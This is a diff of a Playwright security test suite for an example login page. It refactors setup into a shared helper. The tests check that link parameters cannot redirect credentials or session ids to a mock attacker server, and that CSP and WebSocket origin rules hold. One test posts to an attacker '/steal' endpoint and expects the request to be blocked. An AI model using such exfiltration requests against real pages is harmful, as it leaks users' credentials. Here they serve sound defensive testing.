@@ -3,14 +3,12 @@ import { mkdtemp, readdir, readFile, rm } from 'fs/promises';
 import { tmpdir } from 'os';
 import { join } from 'path';
 import { BrowserContext, Page } from 'playwright-core';
-import { ExampleApp } from '../../backend/src/app';
 import { startExample } from '../../backend/src/index';
 import { buildWebPage } from '../../frontend/build';
 import { AttackerServer, startAttackerServer } from '../helpers/attackerServer';
 import { logIn, submitLogin, waitForText } from '../helpers/browserPage';
 import { freePort } from '../helpers/freePort';
-import { ApiUpstreams } from '../../backend/src/webServer';
-import { PageServer, servePage, startExampleApi } from '../helpers/pageHarness';
+import { useExamplePage } from '../helpers/pageHarness';
 import { TEST_SECRETS } from '../helpers/sessionServer';
 import { silentLogger } from '../helpers/transports';
 
@@ -21,47 +19,20 @@ import { silentLogger } from '../helpers/transports';
  */
 describe('example page in Chromium: a link cannot point the page at another server', function () {
     this.timeout(60_000);
-    let served: PageServer | undefined;
-    let app: ExampleApp | undefined;
+    const examplePage = useExamplePage();
     let attacker: AttackerServer | undefined;
-    let contexts: BrowserContext[] = [];
-    let upstreams: ApiUpstreams | undefined;
-
-    before(async () => {
-        served = await servePage(() => upstreams);
-    });
-
-    after(async () => {
-        await served?.stop();
-    });
 
     beforeEach(async () => {
-        ({ app, upstreams } = await startExampleApi(served!.web.origin));
         attacker = await startAttackerServer();
     });
 
     afterEach(async () => {
-        await Promise.all(contexts.map(c => c.close()));
-        contexts = [];
-        await app?.stop();
         await attacker?.stop();
     });
 
-    /** What the page calls: its own origin. */
-    function pageApiUrl(transport: 'http' | 'ws'): string {
-        return transport === 'http' ? `${served!.web.origin}/api/` : `${served!.web.origin.replace('http:', 'ws:')}/ws`;
-    }
-
-    async function newDevice(): Promise<BrowserContext> {
-        const context = await served!.browser.newContext();
-        contexts.push(context);
-        context.setDefaultTimeout(10_000);
-        return context;
-    }
-
     async function open(device: BrowserContext, query: Record<string, string>): Promise<Page> {
         const page = await device.newPage();
-        await page.goto(`${served!.web.origin}/?${new URLSearchParams(query)}`);
+        await page.goto(`${examplePage.served.web.origin}/?${new URLSearchParams(query)}`);
         return page;
     }
 
@@ -81,19 +52,19 @@ describe('example page in Chromium: a link cannot point the page at another serv
     }
 
     it('?http=<other host>: the password typed into the page goes to the page\'s own API only', async () => {
-        const page = await open(await newDevice(), { http: attacker!.httpUrl, ws: attacker!.wsUrl });
+        const page = await open(await examplePage.newDevice(), { http: attacker!.httpUrl, ws: attacker!.wsUrl });
         await page.getByRole('heading', { name: 'Account' }).waitFor();
         await submitLogin(page, 'alice', 'wonderland');
         await settled(page);
         assert.doesNotMatch(attacker!.received, /wonderland/, 'the attacker received the password');
         assert.deepStrictEqual(attacker!.log, { requests: [], upgrades: [], messages: [] });
         await page.getByText('Signed in as Alice').waitFor();
-        assert.strictEqual(await page.locator('#server').textContent(), pageApiUrl('http'));
+        assert.strictEqual(await page.locator('#server').textContent(), examplePage.apiUrl('http'));
     });
 
     for (const transport of ['http', 'ws'] as const) {
         it(`after a login over ${transport}, ?http=/?ws=<other host> (transport=${transport}) send the session id nowhere`, async () => {
-            const device = await newDevice();
+            const device = await examplePage.newDevice();
             const first = await open(device, { transport });
             await first.getByRole('heading', { name: 'Account' }).waitFor();
             await logIn(first, 'alice', 'wonderland');
@@ -106,13 +77,13 @@ describe('example page in Chromium: a link cannot point the page at another serv
             assert.ok(!attacker!.received.includes(sid.split('.')[0]), 'the attacker received the session id');
             assert.deepStrictEqual(attacker!.log, { requests: [], upgrades: [], messages: [] });
             await linked.getByText('Signed in as Alice').waitFor();
-            await waitForText(linked, '#server', pageApiUrl(transport));
+            await waitForText(linked, '#server', examplePage.apiUrl(transport));
         });
     }
 
     it('a production build has no source map, and the page names none', async () => {
-        assert.deepStrictEqual((await readdir(served!.outdir)).sort(), ['index.html', 'main.js', 'style.css']);
-        assert.doesNotMatch(await readFile(join(served!.outdir, 'main.js'), 'utf8'), /sourceMappingURL/);
+        assert.deepStrictEqual((await readdir(examplePage.served.outdir)).sort(), ['index.html', 'main.js', 'style.css']);
+        assert.doesNotMatch(await readFile(join(examplePage.served.outdir, 'main.js'), 'utf8'), /sourceMappingURL/);
         const development = await buildWebPage(await mkdtemp(join(tmpdir(), 'tsrpc-session-page-dev-')), { development: true });
         try {
             assert.ok((await readdir(development)).includes('main.js.map'));
@@ -122,12 +93,12 @@ describe('example page in Chromium: a link cannot point the page at another serv
     });
 
     it('sends a Content-Security-Policy that lets the page connect to its own origin only and never be framed', async () => {
-        const page = await (await newDevice()).newPage();
-        const response = await page.goto(`${served!.web.origin}/`);
+        const page = await (await examplePage.newDevice()).newPage();
+        const response = await page.goto(`${examplePage.served.web.origin}/`);
         const csp = response!.headers()['content-security-policy'];
         assert.ok(csp, 'a Content-Security-Policy header');
         const directives = new Map(csp.split(';').map(d => d.trim().split(/\s+/)).map(([name, ...values]) => [name, values]));
-        const host = new URL(served!.web.origin).host;
+        const host = new URL(examplePage.served.web.origin).host;
         assert.deepStrictEqual(directives.get('connect-src'), ["'self'", `ws://${host}`, `wss://${host}`]);
         assert.deepStrictEqual(directives.get('frame-ancestors'), ["'none'"]);
         assert.deepStrictEqual(directives.get('default-src'), ["'none'"]);
@@ -135,12 +106,12 @@ describe('example page in Chromium: a link cannot point the page at another serv
         await page.getByRole('heading', { name: 'Account' }).waitFor();
         const post = (url: string) => fetch(url, { method: 'POST', body: 'x' }).then(() => 'sent', () => 'blocked');
         assert.strictEqual(await page.evaluate(post, `${attacker!.httpUrl}/steal`), 'blocked');
-        assert.strictEqual(await page.evaluate(post, `http://127.0.0.1:${upstreams!.http.port}/api/GetMe`), 'blocked');
+        assert.strictEqual(await page.evaluate(post, `http://127.0.0.1:${examplePage.upstreams!.http.port}/api/GetMe`), 'blocked');
         assert.deepStrictEqual(attacker!.log.requests, []);
     });
 
     it('a page of another origin cannot open the page\'s WebSocket (allowed origins), the example page can', async () => {
-        const device = await newDevice();
+        const device = await examplePage.newDevice();
         const foreign = await device.newPage();
         await foreign.goto(`${attacker!.httpUrl}/`);
         const tryWebSocket = (url: string) => new Promise<string>(ok => {
@@ -148,24 +119,24 @@ describe('example page in Chromium: a link cannot point the page at another serv
             socket.onopen = () => { socket.close(); ok('open'); };
             socket.onerror = () => ok('refused');
         });
-        assert.strictEqual(await foreign.evaluate(tryWebSocket, pageApiUrl('ws')), 'refused');
+        assert.strictEqual(await foreign.evaluate(tryWebSocket, examplePage.apiUrl('ws')), 'refused');
         const own = await open(device, {});
         await own.getByRole('heading', { name: 'Account' }).waitFor();
-        assert.strictEqual(await own.evaluate(tryWebSocket, pageApiUrl('ws')), 'open');
+        assert.strictEqual(await own.evaluate(tryWebSocket, examplePage.apiUrl('ws')), 'open');
     });
 
     it('started from its environment: one origin on WEB_PORT, the API servers on loopback at HTTP_PORT and WS_PORT behind it', async () => {
         const ports = { WEB_PORT: await freePort(), HTTP_PORT: await freePort(), WS_PORT: await freePort() };
         const example = await startExample({
             ...Object.fromEntries(Object.entries(ports).map(([name, port]) => [name, String(port)])),
-            WEB_ROOT: served!.outdir, SESSION_SECRETS: TEST_SECRETS.join(','),
+            WEB_ROOT: examplePage.served.outdir, SESSION_SECRETS: TEST_SECRETS.join(','),
         }, silentLogger);
         try {
             const origin = `http://127.0.0.1:${ports.WEB_PORT}`;
             assert.deepStrictEqual(example.api, { httpUrl: `${origin}/api`, wsUrl: `ws://127.0.0.1:${ports.WEB_PORT}/ws` });
             assert.deepStrictEqual(example.upstreams, { http: { host: '127.0.0.1', port: ports.HTTP_PORT }, ws: { host: '127.0.0.1', port: ports.WS_PORT } });
             assert.deepStrictEqual([example.app.http.httpServer?.address()], [{ address: '127.0.0.1', family: 'IPv4', port: ports.HTTP_PORT }]);
-            const page = await (await newDevice()).newPage();
+            const page = await (await examplePage.newDevice()).newPage();
             await page.goto(`${origin}/`);
             await logIn(page, 'alice', 'wonderland');
             assert.strictEqual(await page.locator('#server').textContent(), `${origin}/api/`);
@@ -174,8 +145,7 @@ describe('example page in Chromium: a link cannot point the page at another serv
             await page.getByText('Signed in as Alice').waitFor();
             assert.ok(example.app.ws.connections.length > 0, 'the page calls over its WebSocket');
         } finally {
-            await Promise.all(contexts.map(c => c.close()));
-            contexts = [];
+            await examplePage.closeDevices();
             await example.stop();
         }
     });
